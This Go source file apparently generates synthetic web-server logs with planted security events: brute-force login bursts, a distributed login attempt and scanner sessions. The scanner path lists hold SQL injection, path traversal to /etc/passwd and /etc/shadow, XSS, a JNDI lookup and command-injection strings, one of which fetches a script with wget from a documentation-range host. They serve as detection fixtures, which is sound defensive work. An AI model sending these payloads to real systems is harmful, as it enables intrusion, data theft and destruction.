package main

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"time"
)

// Documentation (TEST-NET, 2001:db8::/32, benchmarking 198.18.0.0/15)
// addresses play the attackers; they are only written into log lines.
const (
	bruteIPv4   = "203.0.113.7"
	bruteIPv4b  = "192.0.2.44"
	bruteIPv6   = "2001:db8::66"
	scannerAddr = "198.51.100.23"
)

var attackedUsers = []string{"admin", "root", "administrator", "test", "fossawork", "tech001"}

// failure messages match upstream's failed-login patterns; the pipe shape
// has only the message, so the address is in it.
var failureFormats = []string{
	"Authentication failed: invalid credentials for user %s from %s",
	"Login failed for user %s from %s: wrong password",
	"Invalid credentials for user %s from %s",
}

func failedLogin(t time.Time, format, user, ip, ua string) entry {
	e := request(t, "WARNING", "POST", "/api/auth/login", 401, 3, "client_ip", ip, ua)
	e.logger, e.fn, e.line = "fossawork.auth", "login", 88
	e.msg = fmt.Sprintf(format, user, ip)
	e.fields = append(e.fields, str("username", user))
	e.failedLogin = true
	return e
}

// securityEvents are the day's planted events, in time order. They depend
// on the seed and the day only, so every -size holds the same ones.
func securityEvents(seed uint64, day int, date time.Time) []entry {
	rng := rand.New(rand.NewPCG(seed, 1<<32+uint64(day)))
	between := func(lo, hi int) int { return lo + rng.IntN(hi-lo+1) }
	at := func(h, m int) time.Time { return date.Add(time.Duration(h)*time.Hour + time.Duration(m)*time.Minute) }
	var out []entry
	// A trickle of typos from the LAN every day.
	for range between(3, 7) {
		t := date.Add(time.Duration(rng.Int64N(int64(24 * time.Hour))))
		out = append(out, failedLogin(t, failureFormats[rng.IntN(3)], fmt.Sprintf("tech%03d", between(1, 49)),
			fmt.Sprintf("10.0.%d.%d", between(0, 3), between(2, 250)), browsers[rng.IntN(len(browsers))]))
	}
	burst := func(ip string, start time.Time, n int, format, ua string) {
		t := start
		for i := range n {
			out = append(out, failedLogin(t, format, attackedUsers[i%len(attackedUsers)], ip, ua))
			t = t.Add(time.Duration(between(2, 9)) * time.Second)
		}
	}
	switch day {
	case 1:
		burst(bruteIPv4, at(3, 12), 60, failureFormats[0], "python-requests/2.31.0")
		out = append(out, scan(at(4, 17), sqlmapPaths, "sqlmap/1.7.2#stable (https://sqlmap.org)")...)
	case 2:
		out = append(out, distributed(rng, at(14, 0))...)
	case 3:
		burst(bruteIPv4b, at(22, 40), 35, failureFormats[1], "Hydra v9.5")
	case 4:
		out = append(out, scan(at(1, 33), niktoPaths, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)")...)
	case 5:
		burst(bruteIPv6, at(11, 5), 20, failureFormats[2], "curl/8.5.0")
	}
	slices.SortStableFunc(out, func(a, b entry) int { return a.t.Compare(b.t) })
	return out
}

// distributed: a dozen sources, two tries each, all on "admin", spread
// over 40 minutes so no single source looks like a burst.
func distributed(rng *rand.Rand, start time.Time) []entry {
	var out []entry
	for i := range 12 {
		ip := fmt.Sprintf("198.18.0.%d", 10+i)
		for range 2 {
			t := start.Add(time.Duration(rng.Int64N(int64(40 * time.Minute))))
			out = append(out, failedLogin(t, failureFormats[0], "admin", ip, "python-requests/2.31.0"))
		}
	}
	return out
}

var sqlmapPaths = []string{
	"/api/work-orders?id=1%27%20OR%20%271%27%3D%271",
	"/api/work-orders?id=1 UNION SELECT username,hashed_password FROM users--",
	"/api/work-orders?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
	"/api/dispensers?work_order_id=1' AND SLEEP(5)-- -",
	"/api/dispensers?work_order_id=1%27%3B%20DROP%20TABLE%20work_orders%3B--",
	"/api/work-orders?status=pending%27%20AND%201%3D1%20--",
	"/api/work-orders?id=(SELECT CHAR(113)||CHAR(120) FROM sqlite_master)",
	"/api/work-orders?sort=id;SELECT name FROM sqlite_master WHERE type='table'",
}

var niktoPaths = []string{
	"/api/files?path=../../../../etc/passwd",
	"/api/files?path=..%2F..%2F..%2F..%2Fetc%2Fshadow",
	"/static/..%252f..%252f..%252fetc/passwd",
	"/api/search?q=<script>alert(document.cookie)</script>",
	"/api/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
	"/api/settings?callback=javascript:alert(1)",
	"/api/export?file=report.csv;cat%20/etc/passwd",
	"/api/search?q=${jndi:ldap://198.51.100.23:1389/a}",
	"/api/eval?expr=__import__('os').system('id')",
	"/cgi-bin/test.cgi?cmd=|wget%20http://198.51.100.23/x.sh",
}

// scan is a scanner session: one request every three seconds with an
// attack in the path, answered 400 or 404, and a few probes of admin
// routes logged as unauthorized access.
func scan(start time.Time, paths []string, ua string) []entry {
	var out []entry
	t := start
	for i, p := range paths {
		status := 400
		if i%3 == 2 {
			status = 404
		}
		e := request(t, "WARNING", "GET", p, status, 2, "client_ip", scannerAddr, ua)
		e.attack = true
		out = append(out, e)
		t = t.Add(3 * time.Second)
	}
	for _, route := range []string{"/api/admin/users", "/api/admin/settings", "/api/admin/backup"} {
		e := request(t, "WARNING", "GET", route, 403, 1, "client_ip", scannerAddr, ua)
		e.logger, e.fn, e.line = "fossawork.auth", "require_admin", 41
		e.msg = fmt.Sprintf("Unauthorized access attempt to %s from %s", route, scannerAddr)
		e.failedLogin = true
		out = append(out, e)
		t = t.Add(3 * time.Second)
	}
	return out
}
